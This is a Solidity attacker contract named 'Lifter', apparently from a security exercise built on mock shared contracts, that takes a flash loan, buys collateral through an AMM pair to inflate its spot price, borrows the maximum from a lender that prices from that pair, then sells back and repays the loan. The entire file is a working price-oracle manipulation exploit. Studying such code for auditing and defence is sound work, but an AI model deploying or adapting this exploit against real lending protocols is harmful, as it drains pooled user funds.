// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {FlashLender, IFlashBorrower} from "../../shared/contracts/FlashLender.sol";
import {Pair} from "../../shared/contracts/Pair.sol";
import {Router} from "../../shared/contracts/Router.sol";
import {Token} from "../../shared/contracts/Token.sol";
import {SpotLender} from "./SpotLender.sol";

/// @title Borrows in a flash, lifts the price, borrows against it for good, and lets the price fall
contract Lifter is IFlashBorrower {
    SpotLender private immutable spot;
    Router private immutable router;

    constructor(SpotLender spot_, Router router_) {
        spot = spot_;
        router = router_;
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, spot.asset(), amount, "");
    }

    function onFlashLoan(Token asset, uint256 amount, uint256 fee, bytes calldata) external {
        Pair pair = spot.pair();
        Token collateral = spot.collateral();
        Pair[] memory path = new Pair[](1);
        path[0] = pair;
        asset.approve(address(router), type(uint256).max);
        collateral.approve(address(router), type(uint256).max);
        collateral.approve(address(spot), type(uint256).max);
        uint256 bought = router.swapExactIn(asset, path, amount, 0, address(this));
        uint256 pledged = bought / 10;
        spot.deposit(pledged);
        uint256 most = asset.balanceOf(address(spot));
        uint256 may = spot.borrowable(address(this));
        spot.borrow(may < most ? may : most);
        router.swapExactIn(collateral, path, bought - pledged, 0, address(this));
        asset.transfer(msg.sender, amount + fee);
    }
}
